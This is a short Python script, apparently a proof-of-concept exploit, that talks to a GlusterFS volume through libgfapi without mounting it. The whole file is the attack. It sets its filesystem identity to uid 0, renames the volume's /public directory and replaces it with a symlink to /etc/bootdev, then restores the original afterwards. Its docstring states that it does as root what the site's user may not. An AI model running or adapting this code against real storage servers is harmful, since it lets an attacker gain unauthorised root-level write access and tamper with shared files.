"""libgfapi.py NODE: speaks to the volume without the mount, and does as uid 0 what the site's user may not: a link in public's place."""

import ctypes
import os
import sys

gfapi = ctypes.CDLL("libgfapi.so.0", use_errno=True)
gfapi.glfs_new.restype = ctypes.c_void_p
files = ctypes.c_void_p(gfapi.glfs_new(b"files"))
gfapi.glfs_set_logging(files, b"/dev/null", 0)
gfapi.glfs_set_volfile_server(files, b"tcp", sys.argv[1].encode(), 24007)
if gfapi.glfs_init(files) != 0:
    print("refused:", os.strerror(ctypes.get_errno()), flush=True)
    os._exit(1)
gfapi.glfs_setfsuid(0)
gfapi.glfs_setfsgid(0)
moved = gfapi.glfs_rename(files, b"/public", b"/public.was")
linked = gfapi.glfs_symlink(files, b"/etc/bootdev", b"/public")
print("as uid 0: moved", moved, "linked", linked, flush=True)
if linked == 0:
    gfapi.glfs_unlink(files, b"/public")
    gfapi.glfs_rename(files, b"/public.was", b"/public")
os._exit(0)
